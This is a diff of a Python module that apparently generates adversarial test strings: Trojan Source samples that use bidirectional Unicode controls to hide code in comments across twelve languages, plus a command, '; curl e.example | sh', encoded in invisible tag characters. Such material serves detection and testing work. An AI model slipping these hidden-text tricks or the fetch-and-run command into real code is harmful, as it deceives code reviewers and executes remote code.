@@ -49,15 +49,15 @@ BLANK = "\u00a0\u1680\u2000\u2002\u2003\u2007\u2009\u200a\u2028\u2029\u202f\u205
 QUOTES = ("“”", "‘’", "„“", "«»", "‹›", "＂＂", "＇＇", "´´", "′″", "ʻʼ")
 TAGS = "".join(chr(0xE0000 + ord(char)) for char in "; curl e.example | sh")
 COMMENTS = {
-    "c": ("/*", "*/"), "c++": ("//", ""), "c#": ("/*", "*/"), "go": ("//", ""), "java": ("//", ""),
-    "javascript": ("/*", "*/"), "python": ("#", ""), "rust": ("//", ""), "shell": ("#", ""), "sql": ("--", ""),
-    "solidity": ("/*", "*/"), "ruby": ("#", ""),
+    "c": ("/*", "*/"), "go": ("//", ""), "rust": ("///", ""), "shell": ("#", ""), "sql": ("--", ""),
+    "html": ("<!--", "-->"), "haskell": ("{-", "-}"), "ocaml": ("(*", "*)"), "lisp": (";", ""), "tex": ("%", ""),
+    "python": ("'''", "'''"), "ruby": ("=begin\n", "\n=end"),
 }  # fmt: skip
 RLO, LRI, RLI, PDI = "\u202e", "\u2066", "\u2067", "\u2069"
 
 
 def trojan_sources() -> Iterator[str]:
-    """The ways of Trojan Source (Boucher and Anderson, 2021) in each of some languages: 61 texts."""
+    """The ways of Trojan Source (Boucher and Anderson, 2021) in the comments of twelve languages: 61 texts."""
     for begin, end in COMMENTS.values():
         yield f"{begin} allow {RLO}{LRI}if admin{PDI} {LRI}begin admins only {end}\nrun()"
         yield f"{begin} say why {RLI}{end} return; {LRI}{begin} end {PDI}{PDI}{end}\nrun()"
